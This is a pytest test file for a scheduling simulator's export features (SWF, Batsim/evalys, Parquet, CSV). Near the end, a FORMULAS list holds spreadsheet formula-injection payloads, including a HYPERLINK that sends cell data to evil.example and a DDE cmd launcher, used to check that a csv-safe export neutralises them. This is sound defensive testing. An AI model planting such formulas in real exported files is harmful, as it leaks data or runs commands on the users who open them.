"""Outputs other tools read: the schedule as SWF (read back by our reader), Batsim jobs for evalys, Parquet tables."""

from __future__ import annotations

import math

import numpy as np
import pytest

from wattsched.cli import main
from wattsched.sim.export import rebuild_placement
from wattsched.sim.report import load_run
from wattsched.workload.swf import read_header, read_swf

SWF = """; MaxProcs: 16
; MaxNodes: 16
; UnixStartTime: 1000000
1 100 0 50 8 -1 -1 8 60 -1 1 7 1 -1 1 -1 -1 -1
2 110 0 30 16 -1 -1 16 40 -1 1 8 1 -1 1 -1 -1 -1
3 120 0 10 4 -1 -1 4 20 -1 1 7 1 -1 1 -1 -1 -1
4 130 0 100 4 -1 -1 4 50 -1 1 9 1 -1 1 -1 -1 -1
5 131 0 7.5 2 -1 -1 2 20 -1 1 9 1 -1 1 -1 -1 -1
"""


@pytest.fixture
def run_dir(tmp_path):
    trace = tmp_path / "small.swf"
    trace.write_text(SWF)
    out = tmp_path / "run"
    assert main(["simulate", "--trace", str(trace), "--cores-per-node", "2", "--policy", "easy", "--out", str(out),
                 "-q", "--no-report"]) == 0
    return out


def test_swf_export_reads_back_with_the_simulated_schedule(run_dir, tmp_path, capsys):
    swf = tmp_path / "schedule.swf"
    assert main(["export", str(run_dir), "--format", "swf", "--out", str(swf)]) == 0
    assert "wrote 5 jobs" in capsys.readouterr().err
    run, _ = load_run(run_dir)
    header = read_header(swf)
    assert header["MaxProcs"] == "16" and header["MaxNodes"] == "8" and header["UnixStartTime"] == "1000100"
    assert "policy easy" in header["Computer"]
    back = read_swf(swf, cores_per_node=2)
    jobs = {j.id: j for j in back.jobs}
    lines = {int(line.split()[0]): line.split() for line in swf.read_text().splitlines() if not line.startswith(";")}
    for i, jid in enumerate(run.jobs["id"].tolist()):
        job = jobs[jid]
        assert job.submit_s == run.jobs["submit_s"][i]
        assert job.runtime_s == run.jobs["runtime_s"][i]  # the simulated run time (job 4 killed at 50 s)
        assert job.walltime_s == run.jobs["walltime_s"][i]
        assert job.nodes == run.jobs["nodes"][i] and job.procs == 2 * run.jobs["nodes"][i]
        assert float(lines[jid][2]) == run.jobs["wait_s"][i]
    assert [int(line[10]) for _, line in sorted(lines.items())] == [1, 1, 1, 0, 1]  # job 4: TIMEOUT
    assert back.origin_unix_s == 1000100
    # a rerun of the exported schedule as a trace starts every job at once on a big enough machine
    assert jobs[5].runtime_s == 7.5


def test_swf_export_numbers_named_users_and_marks_unfinished_jobs(tmp_path):
    from wattsched.model.platform import Platform
    from wattsched.sim.export import write_swf
    from wattsched.sim.result import SimResult

    jobs = {
        "id": np.array([1, 2]), "user": np.array(["bob", "alice"], dtype=object),
        "submit_s": np.array([0.0, 5.0]), "start_s": np.array([0.0, math.nan]),
        "end_s": np.array([10.0, math.nan]), "wait_s": np.array([0.0, math.nan]),
        "runtime_s": np.array([10.0, math.nan]), "walltime_s": np.array([20.0, 20.0]),
        "nodes": np.array([1, 2]), "energy_j": np.zeros(2), "wasted_j": np.zeros(2),
        "wasted_node_s": np.zeros(2), "evictions": np.zeros(2, dtype=int),
        "state": np.array(["COMPLETED", "PENDING"], dtype=object),
    }
    result = SimResult(jobs, {}, Platform.homogeneous_cluster(2), {"nodes": 2, "trace": "t", "policy": "p"})
    path = tmp_path / "x.swf"
    assert write_swf(result, path) == 2
    rows = [line.split() for line in path.read_text().splitlines() if not line.startswith(";")]
    assert rows[0][11] == "1" and rows[1][11] == "2"  # bob first
    assert rows[1][2:4] == ["-1", "-1"] and rows[1][10] == "-1"
    assert "users are numbered" in path.read_text()
    back = read_swf(path)
    assert [j.id for j in back.jobs] == [1]  # the reader drops the job without a run time
    assert back.report.dropped == {"runtime_missing": 1}


def test_rebuilt_placement_never_double_books():
    rng = np.random.default_rng(3)
    n, machine = 400, 32
    # a random feasible schedule: greedily start jobs when enough nodes are free
    size = rng.integers(1, machine + 1, n)
    length = rng.uniform(1, 100, n)
    start, end = np.empty(n), np.empty(n)
    running: list[tuple[float, int]] = []
    t = 0.0
    for i in range(n):
        while sum(k for _, k in running) + size[i] > machine:
            running.sort()
            t = max(t, running[0][0])
            running.pop(0)
        start[i], end[i] = t, t + length[i]
        running.append((end[i], int(size[i])))
    placed = rebuild_placement(start, end, size)
    assert [len(p) for p in placed] == size.tolist()
    assert max(max(p) for p in placed) < machine
    for i in range(n):
        for j in range(i + 1, n):
            if start[i] < end[j] and start[j] < end[i]:
                assert not set(placed[i]) & set(placed[j]), (i, j)


def test_parquet_tables_load_with_their_types(run_dir):
    import pyarrow.parquet as pq

    jobs = pq.read_table(run_dir / "jobs.parquet")
    assert str(jobs.schema.field("id").type) == "int64" and str(jobs.schema.field("user").type) == "string"
    assert str(jobs.schema.field("wait_s").type) == "double"
    timeline = pq.read_table(run_dir / "timeline.parquet")
    assert timeline.num_rows == load_run(run_dir)[0].timeline["t_s"].size


def test_batsim_jobs_load_in_evalys_for_a_gantt_chart_and_utilisation(run_dir, tmp_path):
    jobset = pytest.importorskip("evalys.jobset", reason="evalys is in the test extra: pip install -e '.[test]'")
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    out = tmp_path / "jobs.csv"
    assert main(["export", str(run_dir), "--format", "batsim", "--out", str(out)]) == 0
    js = jobset.JobSet.from_csv(str(out))
    run, _ = load_run(run_dir)
    assert len(js.df) == 5
    assert sorted(int(j) for j in js.df.jobID) == sorted(run.jobs["id"].tolist())
    assert (js.res_bounds.inf, js.res_bounds.sup) == (0, 7)  # 8 nodes, numbered from 0
    load = js.utilisation["load"]
    assert load.max() == 8  # job 2 used the whole machine, and never more than that
    # evalys' load integrates to the node-seconds of the run
    node_s = float(np.sum(run.jobs["nodes"] * run.jobs["runtime_s"]))
    assert float(js.utilisation["area"].sum()) == pytest.approx(node_s)
    from evalys.visu.legacy import plot_gantt

    fig, ax = plt.subplots()
    plot_gantt(js, ax=ax)
    assert len(ax.patches) >= 5  # one rectangle per job (at least)
    fig.savefig(tmp_path / "gantt.png")
    assert (tmp_path / "gantt.png").read_bytes()[:4] == b"\x89PNG"
    plt.close(fig)


def test_batsim_export_says_how_many_unfinished_jobs_it_leaves_out(tmp_path, capsys, caplog):
    trace = tmp_path / "small.swf"
    trace.write_text(SWF)
    run_dir = tmp_path / "run"
    # stopped at 60 s: job 2 (whole machine) is still running, job 4 waits behind it
    assert main(["simulate", "--trace", str(trace), "--cores-per-node", "2", "--policy", "easy", "--out",
                 str(run_dir), "-q", "--no-report", "--time-limit", "60"]) == 0
    capsys.readouterr()
    out = tmp_path / "jobs.csv"
    assert main(["export", str(run_dir), "--format", "batsim", "--out", str(out)]) == 0
    err = capsys.readouterr().err
    # the warning goes to stderr through logging (here, pytest's handler)
    assert "left out 2 of 5 jobs that did not run to their end (1 never started, 1 still running" in caplog.text
    assert f"wrote 3 of 5 jobs to {out}; 2 left out (they did not run to their end)" in err
    assert len(out.read_text().splitlines()) == 1 + 3
    # nothing left out, nothing said
    assert main(["export", str(run_dir), "--format", "swf", "--out", str(tmp_path / "s.swf")]) == 0
    err = capsys.readouterr().err
    assert "left out" not in err and "wrote 5 jobs" in err


def test_batsim_writer_warns_about_jobs_without_an_end(tmp_path, caplog):
    from wattsched.model.platform import Platform
    from wattsched.sim.export import write_batsim_jobs
    from wattsched.sim.result import SimResult

    nan = math.nan
    jobs = {
        "id": np.array([1, 2, 3]), "user": np.array(["a", "b", "c"], dtype=object),
        "submit_s": np.array([0.0, 5.0, 6.0]), "start_s": np.array([0.0, nan, 6.0]),
        "end_s": np.array([10.0, nan, nan]), "wait_s": np.array([0.0, nan, 0.0]),
        "runtime_s": np.array([10.0, nan, nan]), "walltime_s": np.array([20.0, 20.0, 20.0]),
        "nodes": np.array([1, 1, 1]), "energy_j": np.zeros(3), "wasted_j": np.zeros(3),
        "wasted_node_s": np.zeros(3), "evictions": np.zeros(3, dtype=int),
        "state": np.array(["COMPLETED", "PENDING", "RUNNING"], dtype=object),
    }
    result = SimResult(jobs, {}, Platform.homogeneous_cluster(3), {"nodes": 3, "trace": "t", "policy": "p"})
    with caplog.at_level("WARNING", logger="wattsched.sim.export"):
        assert write_batsim_jobs(result, tmp_path / "j.csv") == 1
    assert [r.getMessage().split(":")[0] for r in caplog.records] == [
        "left out 2 of 3 jobs that did not run to their end (1 never started, 1 still running when the run "
        "stopped)"]


def test_the_evalys_example_of_the_docs_draws_a_window_of_the_schedule(run_dir, tmp_path):
    """docs/outputs.md's evalys snippet, run as written on an exported run: one rectangle per job of the window."""
    pytest.importorskip("evalys.jobset", reason="evalys is in the test extra: pip install -e '.[test]'")
    import re
    from pathlib import Path

    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    docs = (Path(__file__).resolve().parents[2] / "docs" / "outputs.md").read_text()
    section = docs[docs.index("### Batsim jobs"):]
    snippet = re.search(r"```python\n(.*?)```", section, re.S).group(1)
    assert "runs/kth/batsim_jobs.csv" in snippet and "labels=False" in snippet
    out = tmp_path / "jobs.csv"
    assert main(["export", str(run_dir), "--format", "batsim", "--out", str(out)]) == 0
    code = snippet.replace("runs/kth/batsim_jobs.csv", str(out)).replace("runs/kth/gantt-week.png",
                                                                         str(tmp_path / "gantt.png"))
    scope: dict = {}
    exec(compile(code, "docs/outputs.md", "exec"), scope)  # the project's own documentation
    week, ax = scope["week"], scope["ax"]
    assert 0 < len(week.df) <= len(scope["js"].df)
    assert len([p for p in ax.patches if p.get_width() > 0]) >= len(week.df)
    assert not [t for t in ax.texts if t.get_text().isdigit()]  # no job labels
    assert (tmp_path / "gantt.png").read_bytes()[:4] == b"\x89PNG"
    plt.close(scope["fig"])


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3",
            "\tTAB", "\rCR"]


@pytest.fixture
def formula_run(tmp_path):
    """A run of a job table whose users hold formulas (SWF users are numbers; a table's are text)."""
    import csv

    trace = tmp_path / "jobs.csv"
    with trace.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "submit_s", "runtime_s", "nodes", "user", "group"])
        for i, user in enumerate([*FORMULAS, "alice", "o'neil", "a=b"], 1):
            w.writerow([i, 10 * i, 30 + i, 1 + i % 2, user, "=1+1"])
    out = tmp_path / "run"
    assert main(["simulate", "--trace", str(trace), "--procs", "4", "--policy", "easy", "--out", str(out), "-q",
                 "--no-report"]) == 0
    return out


def _cells(path):
    import csv

    with path.open(newline="") as fh:
        return list(csv.reader(fh))


def test_csv_safe_export_quotes_formulas_and_leaves_jobs_csv_exact(formula_run, capsys):
    before = (formula_run / "jobs.csv").read_bytes()
    exact = _cells(formula_run / "jobs.csv")
    assert [r[1] for r in exact[1:7]] == FORMULAS  # jobs.csv keeps the trace's text
    assert main(["export", str(formula_run), "--format", "csv-safe"]) == 0
    assert "wrote 9 jobs" in capsys.readouterr().err
    assert (formula_run / "jobs.csv").read_bytes() == before
    safe = _cells(formula_run / "jobs-safe.csv")
    assert safe[0] == exact[0] and len(safe) == len(exact)
    user = exact[0].index("user")
    assert [r[user] for r in safe[1:]] == ["'" + f for f in FORMULAS] + ["alice", "o'neil", "a=b"]
    for a, b in zip(exact[1:], safe[1:]):  # every other cell, numbers included, is the same text
        assert a[:user] + a[user + 1:] == b[:user] + b[user + 1:]


def test_csv_safe_export_leaves_negative_numbers_alone(formula_run, tmp_path):
    from wattsched.sim.export import write_jobs_csv_safe

    run, _ = load_run(formula_run)
    run.jobs["energy_j"] = run.jobs["energy_j"].copy()
    run.jobs["energy_j"][0] = -1.5
    out = tmp_path / "safe.csv"
    assert write_jobs_csv_safe(run, out) == (9, 6)
    rows = _cells(out)
    assert rows[1][rows[0].index("energy_j")] == "-1.5"


def test_export_never_writes_over_a_table_of_the_run(formula_run, capsys):
    before = (formula_run / "jobs.csv").read_bytes()
    assert main(["export", str(formula_run), "--format", "csv-safe", "--out", str(formula_run / "jobs.csv")]) == 2
    assert "jobs.csv is a file of the run" in capsys.readouterr().err
    link = formula_run.parent / "link.csv"  # through a link too
    link.symlink_to(formula_run / "jobs.csv")
    assert main(["export", str(formula_run), "--format", "batsim", "--out", str(link)]) == 2
    assert "link.csv is a file of the run" in capsys.readouterr().err
    assert (formula_run / "jobs.csv").read_bytes() == before
